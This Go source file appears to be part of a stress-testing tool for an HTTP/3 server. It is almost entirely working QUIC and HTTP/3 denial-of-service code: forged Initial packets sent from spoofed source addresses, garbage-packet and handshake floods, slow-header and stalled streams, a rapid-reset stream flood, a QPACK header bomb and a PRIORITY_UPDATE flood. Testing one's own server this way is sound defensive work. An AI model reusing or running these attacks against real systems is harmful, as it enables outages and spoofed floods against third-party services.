package main

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	mathrand "math/rand/v2"
	"net"
	"net/netip"
	"strings"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/quicvarint"
	"golang.org/x/net/ipv4"
)

// quicHello is the ClientHello of a QUIC client, in one packet.
func quicHello() []byte {
	c := tls.QUICClient(&tls.QUICConfig{TLSConfig: &tls.Config{ServerName: "localhost", NextProtos: []string{"h3"}, MinVersion: tls.VersionTLS13, CurvePreferences: []tls.CurveID{tls.X25519}}})
	defer c.Close()
	c.SetTransportParameters([]byte("\x0f\x08attacker\x04\x04\x80\x10\x00\x00\x05\x04\x80\x10\x00\x00\x08\x02\x40\x64\x09\x02\x40\x64"))
	if err := c.Start(context.Background()); err != nil {
		panic(err)
	}
	return c.NextEvent().Data
}

// expand is HKDF-Expand-Label of TLS 1.3 (RFC 8446, 7.1).
func expand(secret []byte, label string, length int) []byte {
	label = "tls13 " + label
	text := string(binary.BigEndian.AppendUint16(nil, uint16(length))) + string(rune(len(label))) + label + "\x00"
	key, err := hkdf.Expand(sha256.New, secret, text, length)
	if err != nil {
		panic(err)
	}
	return key
}

// initial is an Initial packet of 1,200 bytes from a client (RFC 9000, 17.2.2; RFC 9001, 5.2 and 5.4).
func initial(hello []byte, id [8]byte) []byte {
	salt := []byte{0x38, 0x76, 0x2c, 0xf7, 0xf5, 0x59, 0x34, 0xb3, 0x4d, 0x17, 0x9a, 0xe6, 0xa4, 0xc8, 0x0c, 0xad, 0xcc, 0xbb, 0x7f, 0x0a}
	secret, err := hkdf.Extract(sha256.New, id[:], salt)
	if err != nil {
		panic(err)
	}
	secret = expand(secret, "client in", sha256.Size)
	block, err1 := aes.NewCipher(expand(secret, "quic key", 16))
	hp, err2 := aes.NewCipher(expand(secret, "quic hp", 16))
	aead, err3 := cipher.NewGCM(block)
	if err := errors.Join(err1, err2, err3); err != nil {
		panic(err)
	}
	const size, numberBytes = 1200, 4
	head := append([]byte{0xc0 | numberBytes - 1, 0, 0, 0, 1, 8}, id[:]...)
	head = append(head, "\x08attacker\x00"...)
	head = binary.BigEndian.AppendUint16(head, 0x4000|uint16(size-len(head)-2))
	at := len(head)
	head = append(head, 0, 0, 0, 0) // the packet's number
	payload := quicvarint.Append([]byte{6, 0}, uint64(len(hello)))
	payload = append(payload, hello...)
	payload = append(payload, make([]byte, size-len(head)-len(payload)-aead.Overhead())...)
	packet := aead.Seal(head, expand(secret, "quic iv", 12), payload, head)
	mask := make([]byte, aes.BlockSize)
	hp.Encrypt(mask, packet[at+4:at+4+aes.BlockSize])
	packet[0] ^= mask[0] & 0x0f
	for i := range numberBytes {
		packet[at+i] ^= mask[1+i]
	}
	return packet
}

// packets sends what next makes, each from another address where from says so.
func packets(ctx context.Context, s *sender, next func(i int) []byte, from func(i int) net.IP) error {
	to, err := netip.ParseAddrPort(s.https)
	if err != nil {
		return err
	}
	c, err := net.ListenUDP("udp4", &net.UDPAddr{})
	if err != nil {
		return err
	}
	defer c.Close()
	for i := 0; ctx.Err() == nil; i++ {
		control := ipv4.ControlMessage{Src: from(i)}
		if _, _, err := c.WriteMsgUDPAddrPort(next(i), control.Marshal(), to); err != nil {
			return err
		}
		s.units.Add(1)
	}
	return nil
}

func forgedInitials(ctx context.Context, s *sender) error {
	hello := quicHello() //nolint:contextcheck // it waits for nothing
	return packets(ctx, s, func(int) []byte {
		var id [8]byte
		_, _ = rand.Read(id[:])
		return initial(hello, id)
	}, func(i int) net.IP { return forged(i).AsSlice() })
}

// quicGarbage sends Initials that nobody can decrypt, packets of connections that are not, and unknown versions.
func quicGarbage(ctx context.Context, s *sender) error {
	packet := make([]byte, 1200)
	return packets(ctx, s, func(i int) []byte {
		binary.BigEndian.PutUint64(packet[6:], mathrand.Uint64())
		switch i % 3 {
		case 0:
			copy(packet, "\xc3\x00\x00\x00\x01\x08")
			copy(packet[14:], "\x08attacker\x00\x44\x00")
		case 1:
			copy(packet, "\x43\xff\xff\xff\xff\xff")
		case 2:
			copy(packet, "\xc3\x01\x02\x03\x04\x08")
		}
		return packet
	}, func(i int) net.IP { return forged(i).AsSlice() })
}

// dialQUIC connects as an HTTP/3 client that says nothing.
func (s *sender) dialQUIC(ctx context.Context, config *quic.Config) (*quic.Conn, func(), error) {
	to, err := net.ResolveUDPAddr("udp4", s.https)
	if err != nil {
		return nil, nil, err
	}
	c, err := net.ListenUDP("udp4", &net.UDPAddr{IP: s.from})
	if err != nil {
		return nil, nil, err
	}
	t := &quic.Transport{Conn: c}
	end := func() { _ = t.Close(); _ = c.Close() }
	limit, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	tlsConfig := s.tls.Clone()
	tlsConfig.NextProtos, tlsConfig.ServerName = []string{"h3"}, "localhost"
	conn, err := t.Dial(limit, to, tlsConfig, config)
	if err != nil {
		end()
		return nil, nil, err
	}
	return conn, func() { _ = conn.CloseWithError(0, ""); end() }, nil
}

func quicHandshakes(ctx context.Context, s *sender) error {
	s.tls.ClientSessionCache = nil
	_, end, err := s.dialQUIC(ctx, nil)
	if err != nil {
		return err
	}
	s.units.Add(1)
	end()
	return nil
}

func h3Frame(kind uint64, payload string) string {
	b := quicvarint.Append(nil, kind)
	return string(quicvarint.Append(b, uint64(len(payload)))) + payload
}

// h3Get is the HEADERS frame of a GET; more are field lines as they are sent.
func h3Get(path, more string) string {
	line := "\x00\x00\xd1\xd7\x50\x09127.0.0.1\x51" + string(rune(len(path))) + path // RFC 9204, 4.5 and Appendix A
	return h3Frame(1, line+more)
}

// onStreams opens so many request streams, each with a text, and says what it is told of each.
func onStreams(ctx context.Context, s *sender, config *quic.Config, many int, text string, then func(*quic.Stream)) error {
	conn, end, err := s.dialQUIC(ctx, config)
	if err != nil {
		return err
	}
	defer end()
	for range many {
		str, err := conn.OpenStreamSync(ctx)
		if err != nil {
			return nil // so it ends
		}
		if _, err := str.Write([]byte(text)); err != nil {
			return nil // so it ends
		}
		s.units.Add(1)
		then(str)
	}
	select {
	case <-conn.Context().Done():
	case <-ctx.Done():
	}
	return nil
}

const h3Connection = 100 // streams

func h3SlowHeaders(ctx context.Context, s *sender) error {
	return onStreams(ctx, s, &quic.Config{KeepAlivePeriod: time.Second}, h3Connection, "\x01", func(*quic.Stream) {})
}

func h3Resets(ctx context.Context, s *sender) error {
	return onStreams(ctx, s, nil, 10_000, h3Get(attackHot, ""), func(str *quic.Stream) { str.CancelRead(0x10c); str.CancelWrite(0x10c) })
}

// h3Bomb has a header of 16 KiB that is 600 KiB when it is decoded.
func h3Bomb(ctx context.Context, s *sender) error {
	const longest = "\xff\x13" // entry 82 of the static table
	return onStreams(ctx, s, nil, 10_000, h3Get("/", strings.Repeat(longest, 8<<10)), func(str *quic.Stream) { _ = str.Close() })
}

func h3Stalled(ctx context.Context, s *sender) error {
	return onStreams(ctx, s, &quic.Config{KeepAlivePeriod: time.Second, InitialStreamReceiveWindow: 1000, MaxStreamReceiveWindow: 1000},
		h3Connection, h3Get("/o/8MiB/large", ""), func(str *quic.Stream) { _ = str.Close() })
}

// h3Priorities sends PRIORITY_UPDATE on the control stream until it is told off.
func h3Priorities(ctx context.Context, s *sender) error {
	conn, end, err := s.dialQUIC(ctx, nil)
	if err != nil {
		return err
	}
	defer end()
	str, err := conn.OpenUniStream()
	if err != nil {
		return err
	}
	const at = 200
	text := "\x00" + h3Frame(4, "")
	for {
		if _, err := fmt.Fprint(str, text); err != nil {
			return nil // so it ends
		}
		s.units.Add(at)
		text = strings.Repeat(h3Frame(0xf0700, "\x00u=1"), at)
	}
}
